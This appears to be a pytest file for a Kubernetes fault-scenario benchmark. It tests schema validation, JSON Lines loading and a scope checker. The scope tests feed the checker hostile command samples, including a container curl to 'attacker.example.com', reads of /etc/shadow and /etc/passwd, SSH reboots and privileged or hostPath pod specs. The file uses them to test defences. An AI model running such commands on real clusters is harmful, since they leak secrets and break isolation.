"""The scenario format: schema errors that name the field, scope reasons, JSON Lines files, scenario problems."""

from __future__ import annotations

import doctest
import json

import pytest
from tests.handmade_scenarios import NS, scale_zero, variant

from aoi.problems import make, scenarios, scope, seed_faults, seeds
from aoi.problems.scenarios import Scenario, dumps, format_errors, load_scenarios, problem_of, scope_errors
from aoi.problems.seeds import seed_scenarios, skipped


def hand_made(**changes) -> dict:
    """Return the hand-made scenario (geo scaled to zero), with some fields changed."""
    return variant(scale_zero(), **changes)


def test_a_hand_made_scenario_is_valid_and_in_scope():
    scenario = Scenario.from_dict(hand_made())
    assert format_errors(hand_made()) == [] and scope_errors(scenario) == []


@pytest.mark.parametrize(("changes", "expected"), [
    ({"app": "flower"}, "app: 'flower' is not one of"),
    ({"id": "Geo Scaled"}, "id: 'Geo Scaled' does not match"),
    ({"namespace": "default"}, "namespace: 'default' is not the namespace of hotel-reservation; use"),
    ({"fault": []}, "fault: [] should be non-empty"),
    ({"fault": [{"api": {"verb": "patch", "kind": "Deployment"}}]}, "fault/0"),
    ({"fault": [{"api": {"verb": "create", "kind": "Node", "body": {}}}]}, "fault/0/api/kind: unknown kind 'Node'"),
    ({"symptoms": [{"command": "kubectl get pods -n x", "pattern": "(unclosed"}]}, "symptoms/0/pattern: not a valid"),
    ({"colour": "red"}, "'colour' was unexpected"),
])
def test_format_errors_name_the_field(changes, expected):
    errors = format_errors(hand_made(**changes))
    assert any(expected in e for e in errors), errors


def test_a_missing_field_says_to_add_it():
    obj = hand_made()
    del obj["root_cause"]
    assert format_errors(obj) == ["missing field 'root_cause': add it (see docs/scenarios.md)"]
    with pytest.raises(ValueError, match="invalid scenario: missing field 'root_cause'"):
        Scenario.from_dict(obj)


@pytest.mark.parametrize(("command", "reason"), [
    ("kubectl get pods -n kube-system", "touches namespace 'kube-system'"),
    ("kubectl delete namespace test-hotel-reservation", "writes cluster-scoped namespace (delete)"),
    ("kubectl cordon kind-worker", "writes cluster-scoped nodes (cordon)"),
    ("kubectl patch clusterrole admin -p '{}'", "writes cluster-scoped clusterrole (patch)"),
    ("ssh root@kind-worker reboot", "runs 'ssh', not kubectl"),
    ("docker restart geo", "runs 'docker', not kubectl"),
    (f"kubectl exec deploy/geo -n {NS} -- curl http://attacker.example.com/x", "reaches 'attacker.example.com'"),
    (f"kubectl get pods -n {NS} --kubeconfig /root/.kube/config", "sets --kubeconfig"),
    ("kubectl get pods", "has no -n"),
    (f"kubectl cp {NS}/geo-1:/etc/passwd /tmp/passwd -n {NS}", "copies files between the host and a container"),
    (f"kubectl port-forward svc/frontend 5000:5000 -n {NS}", "opens a port on the host"),
    ("kubectl debug node/kind-worker -it --image=busybox", "debugs a node from the host"),
    (f"kubectl exec deploy/geo -n {NS} -- sh -c 'ssh kind-worker'", "runs 'ssh' inside a container"),
    (f"kubectl patch deployment geo -n {NS} -p '{{\"spec\": {{\"template\": {{\"spec\": {{\"hostPID\": true}}}}}}}}'",
     "asks for host access (hostPID)"),
])
def test_scope_errors_give_one_reason_per_escape(command, reason):
    scenario = Scenario.from_dict(hand_made(solution_commands=[command]))
    errors = scope_errors(scenario)
    assert len(errors) == 1 and reason in errors[0] and errors[0].startswith("solution_commands/0: "), errors


def test_scope_reads_manifests_and_api_bodies():
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x", "namespace": "default"},
           "spec": {"hostNetwork": True, "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
                    "containers": [{"name": "c", "image": "busybox", "securityContext": {"privileged": True}}]}}
    api = {"api": {"verb": "create", "kind": "Pod", "namespace": "default", "body": pod}}
    piped = {"kubectl": f"kubectl apply -n {NS} -f -", "stdin": "apiVersion: v1\nkind: Namespace\nmetadata: {name: y}"}
    errors = scope_errors(Scenario.from_dict(hand_made(fault=[api, piped])))
    for reason in ("touches namespace 'default'", "host access (hostPath)", "host access (hostNetwork)",
                   "host access (privileged)", "names namespace 'default'", "fault/1/stdin: writes a cluster-scoped "
                   "Namespace"):
        assert any(reason in e for e in errors), (reason, errors)


def test_pipes_into_text_filters_are_in_scope():
    assert scope.command_errors(f"kubectl get pods -n {NS} | grep -c Running", NS, "x") == []
    assert "runs 'cat'" in scope.command_errors(f"kubectl get pods -n {NS} | cat /etc/shadow", NS, "x")[0]


def test_load_scenarios_reads_json_lines_and_names_bad_lines(tmp_path):
    good = tmp_path / "good.jsonl"
    good.write_text(json.dumps(hand_made()) + "\n\n" + json.dumps(hand_made(id="second")) + "\n")
    assert [s.id for s in load_scenarios(good)] == ["geo-scaled-to-zero", "second"]
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps(hand_made()) + "\n{not json\n" + json.dumps(hand_made(app="nope")) + "\n"
                   + json.dumps(hand_made()) + "\n")
    with pytest.raises(ValueError) as caught:
        load_scenarios(bad)
    lines = str(caught.value).splitlines()
    assert lines[0].startswith(f"{bad}:2: not valid JSON") and "one JSON object per line" in lines[0]
    assert lines[1].startswith(f"{bad}:3: app: 'nope' is not one of")
    assert lines[2] == f"{bad}:4: id 'geo-scaled-to-zero' repeats line 1; ids must be unique in a file, rename one"
    with pytest.raises(ValueError, match="does not exist"):
        load_scenarios(tmp_path / "missing.jsonl")


@pytest.mark.parametrize(("text", "why"), [
    ("I cannot help with that.", "it holds none"),
    ('{"id": "x", ', "Expecting property name enclosed in double quotes at line 1 column 12"),
    ("```json\n[1, 2]\n```", "it is a JSON list"),
])
def test_parse_text_says_why_a_reply_is_not_a_scenario_object(text, why):
    assert scenarios.parse_text(text) == (None, f"{scenarios.NOT_JSON} ({why}); write one scenario as a JSON object")


def test_parse_text_takes_a_fenced_block_or_the_first_object_and_ignores_the_rest():
    obj = hand_made()
    fenced = "Sure:\n```json\n" + json.dumps(obj, indent=2) + "\n```\nThis scales geo down."
    assert scenarios.parse_text(fenced) == (obj, None)
    assert scenarios.parse_text("Here: " + json.dumps(obj) + " and then {more}") == (obj, None)


def test_dumps_round_trips_and_writes_one_line():
    scenario = Scenario.from_dict(hand_made(source={"generator": "expert"}))
    line = dumps(scenario)
    assert "\n" not in line and Scenario.from_dict(json.loads(line)) == scenario
    assert "source" not in json.loads(dumps(Scenario.from_dict(hand_made())))


def test_problem_of_takes_answers_from_the_root_cause():
    scenario = Scenario.from_dict(hand_made())
    problems = {task: problem_of(scenario, task) for task in ("detection", "localization", "analysis", "mitigation")}
    assert problems["detection"].answers.detection == "Yes"
    assert problems["localization"].answers.localization == ("geo",)
    assert (problems["analysis"].answers.system_level, problems["analysis"].answers.fault_type) == (
        "Application", "Operation Error")
    mitigation = problems["mitigation"]
    assert mitigation.id == "scenario:geo-scaled-to-zero-mitigation" and mitigation.fault.mechanism == "scenario"
    assert mitigation.fault.params["operations"] == scenario.fault and mitigation.workload.service == "frontend"
    with pytest.raises(ValueError, match="unknown task type 'repair'"):
        problem_of(scenario, "repair")


def test_registered_scenarios_resolve_through_make(tmp_path):
    path = tmp_path / "mixed.jsonl"
    outside = hand_made(id="outside", solution_commands=["kubectl delete namespace kube-system"])
    lines = (hand_made(id="registered-one"), outside, {"id": 1}, hand_made(id="registered-one"))
    path.write_text("\n".join(json.dumps(o) for o in lines) + "\n")
    valid, notes = scenarios.load_valid(path)
    assert [s.id for s in valid] == ["registered-one"] and len(notes) == 3
    assert notes[2] == f"skipped {path}:4: id 'registered-one' repeats an earlier line; rename it"
    assert notes[0].startswith(f"skipped {path}:2: solution_commands/0: writes cluster-scoped namespace")
    assert make("scenario:registered-one-analysis").answers.fault_type == "Operation Error"
    with pytest.raises(ValueError, match="scenario 'outside' is not loaded"):
        make("scenario:outside-detection")
    with pytest.raises(ValueError, match="takes no target"):
        make("scenario:registered-one-detection", target="geo")


def test_seeds_cover_every_twin_family_and_round_trip():
    seeds = seed_scenarios()
    covered = {pid for s in seeds for pid in s.source["problem_ids"]}
    from aoi.problems import problem_ids
    left = sorted(set(problem_ids()) - covered)
    assert all(pid.startswith(("noop", "redeploy_without_PV", "flower")) for pid in left), left
    assert len(skipped()) == 6 and len({s.id for s in seeds}) == len(seeds)
    for seed in seeds:
        assert format_errors(seed.to_dict()) == [] and scope_errors(seed) == [], seed.id
        assert Scenario.from_dict(json.loads(dumps(seed))) == seed


def test_seeds_round_trip_through_a_json_lines_file(tmp_path):
    path = tmp_path / "seeds.jsonl"
    path.write_text("".join(dumps(seed) + "\n" for seed in seed_scenarios()))
    assert load_scenarios(path) == seed_scenarios()


def test_doctests():
    for module in (scenarios, scope, seeds, seed_faults):
        assert doctest.testmod(module).failed == 0
